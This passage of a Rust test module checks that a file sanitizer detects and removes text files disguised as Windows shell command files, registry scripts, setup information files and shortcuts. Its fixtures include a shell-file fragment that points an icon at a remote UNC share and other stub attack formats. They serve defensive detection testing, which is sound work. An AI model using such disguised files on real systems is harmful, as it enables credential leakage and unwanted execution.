        for t in [
            &b"ID,name\r\n1,a\r\n"[..],
            b"web\nsite notes\n",
            "[Version]\nこんにちは\n".as_bytes(),
            b"<?xml version=\"1.0\"?><note>x</note>",
        ] {
            assert_eq!(disguise(t), None, "{}", String::from_utf8_lossy(t));
        }
        // Bare CR line ends (found by the `text` fuzz target): judged like CRLF, since the
        // text sanitizer's output would be.
        assert_eq!(
            disguise(b"[Shell]\r=2\r\nIconFile=\\\\h\\i.ico\r\n[Taskbar]\r\nCommand=x\r")
                .map(|d| d.threat),
            Some("text.shell_command")
        );
        assert_eq!(
            disguise(b"REGEDIT4\r[HKEY_CURRENT_USER\\x]\r").map(|d| d.threat),
            Some("text.registry_script")
        );
        // A message quoting a shortcut in its body is still a message.
        assert_eq!(
            sniff(b"From: a@example.jp\r\nSubject: x\r\n\r\n[InternetShortcut]\r\nURL=x\r\n"),
            Kind::Mail
        );
        // A MIME single-file web page is sanitized as a message, even without mail fields.
        assert_eq!(
            sniff(b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"),
            Kind::Mail
        );
    }

    #[test]
    fn disguised_text_is_removed_with_its_own_id_whatever_its_name() {
        let policy = crate::policy::Policy::default();
        for (threat, bytes) in DISGUISED
            .iter()
            .filter(|(t, _)| !matches!(*t, "office.flat_xml" | "office.xml_2003"))
        {
            for name in ["notes.txt", "data.csv", "x.iqy"] {
                let out = crate::sanitize_file(bytes, Some(name), &policy);
                assert!(out.output.is_none(), "{threat} as {name}");
                let item = &out.report.items[0];
                assert!(item.threats.iter().any(|t| t == threat), "{item:?}");
                assert!(!item.reason.contains("executable or script"), "{item:?}");
            }
        }
    }

    #[test]
    fn text_that_becomes_a_shell_file_once_cleaned_is_removed() {
        // Found by the `text` fuzz target: a control character hides the section header from
        // the sniffer; the text sanitizer removes it, and the output would be an .inf.
        let policy = crate::policy::Policy::default();
        let input = b"[Version]\x11\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\n";
        assert_eq!(sniff(input), Kind::Text);
        let out = crate::sanitize_file(input, Some("a.txt"), &policy);
        assert!(out.output.is_none(), "{:?}", out.report);
        assert!(
            out.report.threats().contains(&"text.setup_information"),
            "{:?}",
            out.report
        );
    }

    #[test]
    fn macro_enabled_names_say_what_they_are() {
        let policy = crate::policy::Policy::default();
        for (name, what) in [
            ("deck.ppsm", "slideshow"),
            ("tools.xlam", "add-in"),
            ("t.potm", "template"),
        ] {
            let out = crate::sanitize_file(b"PK\x03\x04", Some(name), &policy);
            let item = &out.report.items[0];
            assert!(item.reason.contains(what), "{item:?}");
            assert!(!item.reason.contains("executable"), "{item:?}");
            assert!(item.threats.iter().any(|t| t == "filename.macro_enabled"));
        }
    }

    #[test]
    fn xps_is_unsupported_with_a_reason() {
        let mut w = crate::formats::office::PackageWriter::new();
        w.deflated("[Content_Types].xml", b"<Types/>").unwrap();
        w.deflated("FixedDocumentSequence.fdseq", b"<FixedDocumentSequence/>")
            .unwrap();
        let xps = w.finish().unwrap();
        assert_eq!(sniff(&xps), Kind::Unsupported);
        let out = crate::sanitize_file(&xps, Some("a.xps"), &crate::policy::Policy::default());
        assert!(
            out.report.items[0].reason.contains("XPS"),
            "{:?}",
            out.report
        );
    }

    #[test]
    fn claims_compare() {
        assert_eq!(kind_from_mime("application/pdf"), Some(Kind::Pdf));
        assert_eq!(kind_from_extension("a.docm"), Some(Kind::Ooxml));
        assert_eq!(kind_from_mime("application/octet-stream"), None);
        assert!(!compatible(Kind::Pdf, Kind::Executable));
        assert!(compatible(Kind::Csv, Kind::Text));
    }
}
